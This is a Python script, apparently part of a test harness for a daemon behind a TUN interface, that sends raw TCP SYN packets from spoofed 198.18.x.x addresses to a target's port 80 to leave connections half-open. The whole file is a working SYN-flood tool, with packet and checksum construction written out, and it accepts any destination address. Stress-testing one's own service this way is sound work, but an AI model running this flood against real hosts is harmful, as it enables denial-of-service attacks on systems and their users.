#!/usr/bin/env python3
"""syn_flood.py DST N: N TCP SYNs to DST:80 from addresses nobody owns
(198.18.2.0 and up, inside the TUN's /15 but not the TUN's own), so the
daemon's SYN-ACKs go unanswered and every connection stays half-open, as
in a SYN flood. Raw IP (root). Paced a little so the TUN queue is not
simply overrun; prints sent=N."""
import random
import socket
import struct
import sys
import time

def csum(b):
    if len(b) % 2: b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b)//2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
dst = socket.inet_aton(sys.argv[1]); n = int(sys.argv[2])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
for i in range(n):
    src = bytes([198, 18, 2 + (i >> 16), (i >> 8) & 0xff])
    sport = 1024 + (i & 0xff) * 200 + (i >> 8) % 200
    tcp = struct.pack('!HHIIBBHHH', sport, 80, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    ph = src + dst + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', csum(ph + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), i & 0xffff, 0, 64, 6, 0, src, dst)
    try:
        s.sendto(ip + tcp, (sys.argv[1], 0)); sent += 1
    except OSError:
        time.sleep(0.001)
    if i % 200 == 199: time.sleep(0.002)
print("sent=%d" % sent)
